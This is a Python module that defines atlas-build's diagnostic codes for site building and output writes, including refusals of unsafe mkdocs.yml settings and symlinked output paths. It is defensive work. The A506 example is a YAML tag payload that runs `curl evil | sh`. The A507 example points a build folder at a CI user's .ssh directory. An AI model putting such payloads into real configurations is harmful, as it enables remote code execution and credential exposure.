"""Codes of what atlas-build writes: the site (A501-A506, A510: math that does not render,
a page that would carry script, an unsafe mkdocs.yml, a bad selftest file) and the writes
every command shares (A507-A509: an output path that is a link, an author's file, two
lessons at one address). The site, the pipeline and the authoring commands emit them, so
they live in this leaf and not in any one of those layers.
"""

from __future__ import annotations

from atlas_build.diagnostics import Severity, define

STAGE = "site"

LATEX = define(
    "A501",
    "latex-error",
    Severity.ERROR,
    "KaTeX cannot render a formula of the lesson, so the page would show broken math.",
    example=r"$$\frac{a$$ (a missing closing brace)",
    fix="Correct the LaTeX at the reported position; only KaTeX-supported commands render.",
    stage=STAGE,
)
FIGURE = define(
    "A502",
    "figure-skipped",
    Severity.WARNING,
    "A claim that normally gets a figure has parameters the figure cannot be drawn from.",
    example="a packed_mask claim whose documents do not fit in block_size",
    fix="Fix the claim's params (the claims stage reports the same problem in detail).",
    stage=STAGE,
)
MKDOCS = define(
    "A503",
    "mkdocs-warning",
    Severity.ERROR,
    "MkDocs reported a warning while laying out the generated pages (it runs in strict mode).",
    example="Doc file 'index.md' contains a link '#nope', but there is no such anchor",
    fix="Usually a bug in the site generator: report it with the MkDocs message.",
    stage=STAGE,
)
LINK = define(
    "A504",
    "broken-site-link",
    Severity.ERROR,
    "A link or image of the built site points at a page, file or anchor that does not exist.",
    example="report/index.html links ../lessons/kv-cache/#claim-x but no element has that id",
    fix="Usually a bug in the site generator: report it with the link.",
    stage=STAGE,
)
PAGE = define(
    "A505",
    "page-render-failed",
    Severity.ERROR,
    "A lesson's page could not be rendered; the lesson is left out of the site.",
    example="a claim parameter no figure can be drawn from that escaped the figure's checks",
    fix="Report it with the message; fix the lesson or claim it names meanwhile.",
    stage=STAGE,
)
CONFIG = define(
    "A506",
    "mkdocs-config-refused",
    Severity.ERROR,
    "The repository's mkdocs.yml asks MkDocs to run code or to read outside the repository: "
    "a YAML tag that builds a Python object, hooks, a plugin or markdown extension atlas-build "
    "does not know, extra_javascript, an INHERIT or theme.custom_dir that leaves the "
    "repository or holds links.",
    example='theme: !!python/object/apply:os.system ["curl evil | sh"]',
    fix="Remove the entry. Hooks, other plugins, extensions and extra_javascript are allowed "
    "with `atlas-build build --trust-config` (code you have reviewed); tags never are.",
    stage=STAGE,
)

SELFTEST_FILE = define(
    "A510",
    "selftest-file-invalid",
    Severity.WARNING,
    "The `build --selftest` file, or a value in it, cannot be used: it is not a regular "
    "file, is too large, is not selftest JSON, or holds a value that is not what selftest "
    "writes. The Selftest page leaves that out and says so.",
    example='"killed": 1e4000, or build/selftest.json -> /dev/zero',
    fix="Write the file again with `atlas-build selftest --format json`.",
    stage=STAGE,
)

OUTPUT = "output"  # build, import and new: where they may write
OUTPUT_LINK = define(
    "A507",
    "output-path-refused",
    Severity.ERROR,
    "A folder or file atlas-build would write is a symbolic link, or lies under one, or is "
    "not a folder: a repository can commit `build` or a lesson folder as a link to anywhere, "
    "so nothing is written through it.",
    example="build -> /home/ci/.ssh committed to the repository",
    fix="Remove the link (atlas-build creates the folder itself) or name another folder.",
    stage=OUTPUT,
)
AUTHOR_FILE = define(
    "A508",
    "author-file-exists",
    Severity.ERROR,
    "`new` or `import` would replace a file the author already has; nothing was written.",
    example="atlas-build new kv-cache when content/kv-cache/claims.yaml exists",
    fix="Pass --force to replace it, or choose another lesson folder.",
    stage=OUTPUT,
)
PUBLISHED_TWICE = define(
    "A509",
    "published-twice",
    Severity.ERROR,
    "Two lessons would be published at one address: the same page `/lessons/<slug>/` (a "
    "folder named like another lesson's slug, or an id that becomes one when the folder "
    "name is not a plain slug) or the same `records/<id>.json`. A build stops before it "
    "writes or deletes anything; with --allow-errors neither lesson is published.",
    example="content/kv-cache/ and content/KV Cache/ whose id is kv-cache",
    fix="Rename one folder or change one id.",
    stage=OUTPUT,
)
